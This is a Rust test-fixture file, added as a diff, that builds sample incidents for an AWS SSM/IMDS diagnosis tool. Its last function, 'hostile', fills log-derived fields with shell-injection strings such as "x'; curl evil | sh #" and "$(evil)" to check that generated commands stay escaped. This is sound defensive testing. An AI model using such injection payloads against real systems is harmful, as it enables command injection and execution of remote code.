@@ -1,0 +1,151 @@
+//! Incidents to try the advice and the messages on.
+
+use std::collections::BTreeMap;
+
+use jiff::Timestamp;
+
+use crate::diagnose::facts::{ImdsFacts, InstanceFacts, ProfileRef, Read, RoleFacts};
+use crate::diagnose::verdict::Standing;
+use crate::incident::cause::{Cause, Confidence, Scope};
+use crate::incident::finding::{Clues, Evidence, SignatureCount};
+use crate::incident::gather::{Hit, Incident};
+use crate::node::{AccountId, InstanceId, NamedBy, Node, NodeId, Region};
+
+pub(crate) const INSTANCE: &str = "i-0123456789abcdef0";
+
+pub(crate) fn at(text: &str) -> Timestamp {
+    text.parse().expect("a timestamp")
+}
+
+pub(crate) fn node(id: &str, region: &str) -> Node {
+    Node {
+        id: NodeId::parse(id).unwrap_or(NodeId::Unknown(id.into())),
+        named_by: NamedBy::Stream,
+        account: AccountId::parse("123456789012"),
+        region: Region::parse(region),
+    }
+}
+
+/// One instance with everything known about it.
+pub(crate) fn incident(cause: Cause) -> Incident {
+    in_region(cause, "eu-central-1")
+}
+
+pub(crate) fn in_region(cause: Cause, region: &str) -> Incident {
+    let scope = Scope {
+        kind: cause.scope_kind(),
+        id: INSTANCE.to_owned(),
+    };
+    let last = at("2026-11-23T04:19:04Z");
+    Incident {
+        key: format!("123456789012/{region}/{cause}/{}:{}", scope.kind, scope.id),
+        cause,
+        candidates: vec![cause],
+        scope,
+        severity: cause.severity(),
+        confidence: Confidence::Likely,
+        standing: Standing::Standing,
+        title: format!("{cause} on instance {INSTANCE}."),
+        detail: None,
+        hits: vec![hit(INSTANCE, region, cause)],
+        signatures: vec![SignatureCount {
+            id: "a-signature".to_owned(),
+            count: 3,
+            first: last,
+            last,
+        }],
+        evidence: vec![Evidence {
+            at: last,
+            level: "ERROR",
+            component: "EC2Identity".to_owned(),
+            text: "Failed to get instance info from IMDS.".to_owned(),
+            place: None,
+        }],
+        clues: Clues {
+            service: Some("ssm".to_owned()),
+            action: Some("ssm:UpdateInstanceInformation".to_owned()),
+            ..Clues::default()
+        },
+        checks: Vec::new(),
+        first: last,
+        last,
+        retry_in_seconds: None,
+        fresh: true,
+        instances: vec![InstanceFacts {
+            id: InstanceId::parse(INSTANCE).expect("an instance id"),
+            state: "running".to_owned(),
+            imds: Some(ImdsFacts {
+                endpoint_enabled: false,
+                tokens_required: true,
+                hop_limit: Some(2),
+                pending: false,
+            }),
+            profile: Some(ProfileRef {
+                name: "MyProfile".to_owned(),
+                arn: "arn:aws:iam::123456789012:instance-profile/MyProfile".to_owned(),
+                id: "AIPAEXAMPLE".to_owned(),
+            }),
+            tags: BTreeMap::new(),
+            managed_by: None,
+            vpc: Some("vpc-0a1b2c3d4e5f60718".to_owned()),
+            subnet: Some("subnet-0a1b2c3d4e5f60718".to_owned()),
+        }],
+        role: Some(RoleFacts {
+            name: "MySSMRole".to_owned(),
+            arn: "arn:aws:iam::123456789012:role/MySSMRole".to_owned(),
+            path: "/".to_owned(),
+            trust_policy: "{}".to_owned(),
+            tags: Read::Found(BTreeMap::new()),
+        }),
+    }
+}
+
+pub(crate) fn hit(id: &str, region: &str, cause: Cause) -> Hit {
+    Hit {
+        node: node(id, region),
+        last: at("2026-11-23T04:19:04Z"),
+        confirmed: false,
+        log_candidates: vec![cause],
+    }
+}
+
+pub(crate) fn on_hybrid_node(cause: Cause) -> Incident {
+    let mut incident = incident(cause);
+    incident.hits = vec![hit("mi-0123456789abcdef0", "eu-central-1", cause)];
+    incident.instances.clear();
+    incident.role = None;
+    incident
+}
+
+pub(crate) fn on_unknown_node(cause: Cause) -> Incident {
+    let mut incident = on_hybrid_node(cause);
+    incident.hits = vec![hit("app/web-7.log", "", cause)];
+    incident.hits[0].node.account = None;
+    incident
+}
+
+pub(crate) fn undetermined(candidates: &[Cause]) -> Incident {
+    let mut incident = incident(candidates[0]);
+    incident.candidates = candidates.to_vec();
+    incident.confidence = Confidence::Undetermined;
+    incident
+}
+
+/// Every value that log text fills tries to leave its place in a command.
+pub(crate) fn hostile(cause: Cause) -> Incident {
+    let evil = || Some("x'; curl evil | sh #\n$(evil)".to_owned());
+    let mut incident = on_unknown_node(cause);
+    incident.hits[0].node.id = NodeId::Unknown("i-0'; evil".into());
+    incident.clues = Clues {
+        service: evil(),
+        host: evil(),
+        action: evil(),
+        role: evil(),
+        resource: evil(),
+        code: evil(),
+        agent_version: evil(),
+        template: evil(),
+        ..Clues::default()
+    };
+    incident
+}
